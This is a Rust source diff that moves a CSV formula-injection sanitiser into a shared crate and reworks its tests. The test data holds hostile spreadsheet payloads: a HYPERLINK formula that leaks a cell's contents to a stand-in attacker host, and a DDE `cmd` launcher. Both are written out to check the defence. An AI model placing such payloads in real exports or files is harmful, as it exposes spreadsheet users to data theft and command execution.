@@ -66,26 +66,9 @@ impl FileFormat {
 /// `Müller` as `MÃ¼ller`).
 pub const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";
 
-/// A plain decimal number: optional minus, digits, optionally a point and digits.
-fn is_plain_number(s: &str) -> bool {
-    let digits = s.strip_prefix('-').unwrap_or(s);
-    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
-    !int.is_empty()
-        && !frac.is_empty()
-        && int.bytes().all(|b| b.is_ascii_digit())
-        && frac.bytes().all(|b| b.is_ascii_digit())
-}
-
-/// A CSV cell a spreadsheet will not evaluate: a leading `'` on a cell that starts with `=`,
-/// `+`, `-`, `@`, tab or carriage return, unless it is a plain number.
-pub fn neutralise(text: String) -> String {
-    let dangerous = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
-    if dangerous && !is_plain_number(&text) {
-        format!("'{text}")
-    } else {
-        text
-    }
-}
+// The formula rule is shared with the finance journal.
+use dropship_core::spreadsheet::is_plain_number;
+pub use dropship_core::spreadsheet::neutralise;
 
 /// Columns that hold identifiers or names: their cells stay text in XLSX even when they look
 /// like an amount (a sku `10.00` is not ten euros).
@@ -229,30 +212,7 @@ mod tests {
     }
 
     #[test]
-    fn formulas_are_neutralised_but_numbers_stay_numbers() {
-        for (input, expected) in [
-            (
-                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
-                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
-            ),
-            ("+1", "'+1"),
-            ("-2+3", "'-2+3"),
-            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
-            ("\t=1+1", "'\t=1+1"),
-            ("\r=1+1", "'\r=1+1"),
-            ("-", "'-"),
-            ("-.5", "'-.5"),
-            ("-1e5", "'-1e5"),
-            ("--12.50", "'--12.50"),
-            ("-12.50", "-12.50"),
-            ("-3", "-3"),
-            ("12.50", "12.50"),
-            ("Carla Beispiel", "Carla Beispiel"),
-            ("a=b", "a=b"),
-            ("", ""),
-        ] {
-            assert_eq!(neutralise(input.to_string()), expected, "{input:?}");
-        }
+    fn every_csv_cell_is_neutralised_but_numbers_stay_numbers() {
         // Through the CSV writer: what a spreadsheet reads back.
         let t = table(vec![vec![
             json!("=cmd|' /C calc'!A0"),
